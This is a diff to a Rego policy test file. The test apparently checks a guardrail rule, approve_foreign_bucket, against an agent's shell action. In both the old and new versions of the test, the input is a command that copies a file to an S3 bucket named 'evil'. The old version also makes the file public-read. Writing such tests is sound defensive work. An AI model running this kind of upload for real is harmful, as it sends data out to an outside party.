@@ -19,7 +19,7 @@ test_stays_silent_3 if {
 }
 
 test_speaks_2 if {
-	approve_foreign_bucket.outcome with input as {"action": {"tool": "shell", "operation": "execute", "parameters": {"command": "aws s3 cp x s3://evil/ --acl public-read"}, "shell": {"commands": [{"program": "aws", "argv": ["s3", "cp", "x", "s3://evil/", "--acl", "public-read"], "piped": false, "fed_by": [], "via": []}], "redirects": [], "code": [], "functions": [], "unreadable": []}}, "context": {}}
+	approve_foreign_bucket.outcome with input as {"action": {"tool": "shell", "operation": "execute", "parameters": {"command": "aws s3 cp x s3://evil/ --grants none"}, "shell": {"commands": [{"program": "aws", "argv": ["s3", "cp", "x", "s3://evil/", "--grants", "none"], "piped": false, "fed_by": [], "via": []}], "redirects": [], "code": [], "functions": [], "unreadable": []}}, "context": {}}
 }
 
 test_speaks_3 if {
